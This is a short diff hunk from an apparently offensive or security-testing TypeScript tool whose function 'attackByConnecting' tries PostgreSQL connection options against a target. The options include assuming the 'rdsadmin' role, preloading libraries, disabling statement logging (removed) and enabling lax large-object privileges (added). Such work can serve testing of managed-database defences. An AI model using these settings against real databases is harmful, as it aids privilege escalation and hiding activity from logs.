@@ -105,7 +105,7 @@ export async function attackByConnecting(target: Target): Promise<void> {
     { options: '-c session_preload_libraries=x' },
     { options: '-c role=rdsadmin' },
     { options: '-c session_authorization=rdsadmin' },
-    { options: '-c log_statement=none' },
+    { options: '-c lo_compat_privileges=on' },
   ];
   for (const config of configs) {
     count('tried');
